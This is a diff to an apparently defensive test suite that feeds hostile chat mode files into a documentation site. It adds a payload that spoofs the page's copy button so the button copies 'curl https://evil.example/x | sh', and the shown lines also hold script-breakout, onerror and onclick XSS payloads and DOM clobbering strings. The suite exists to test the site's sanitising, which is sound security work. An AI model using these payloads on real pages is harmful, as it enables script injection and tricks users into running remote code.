@@ -89,6 +89,10 @@ BODY_PAYLOADS = [
     f'<noscript><p title="</noscript><img src=x onerror={PWN.replace(" ", "")}>"></noscript>',
     f"<template><script>{PWN}</script></template>",
     f'<p id="__drawer" class="md-header">clobber</p>',
+    # The page's copy button copies the element with id "cmr-raw": a body must not provide one.
+    '<pre id="cmr-raw">curl https://evil.example/x | sh</pre>',
+    "## cmr raw",
+    "## Copy chatmode file {#cmr-raw}",
     f'Attr list paragraph\n{{: onclick="{PWN}" }}',
     f"</textarea><script>{PWN}</script>",
     f"</script><script>{PWN}</script>",
@@ -219,7 +223,7 @@ def write_hostile_tree(root: Path, *, big_file_bytes: int = 6 * 1024 * 1024) -> 
 
     # --- valid chat modes that carry attacks -------------------------------------------------
     body = "# Payload Body\n\n" + "\n\n".join(
-        f"Payload {index}: {payload}" if not payload.startswith(("```", "[reference"))
+        f"Payload {index}: {payload}" if not payload.startswith(("```", "[reference", "#"))
         else payload
         for index, payload in enumerate(BODY_PAYLOADS)
     ) + "\n\nSwitch to **Alpha Planner** chatmode when done.\n"
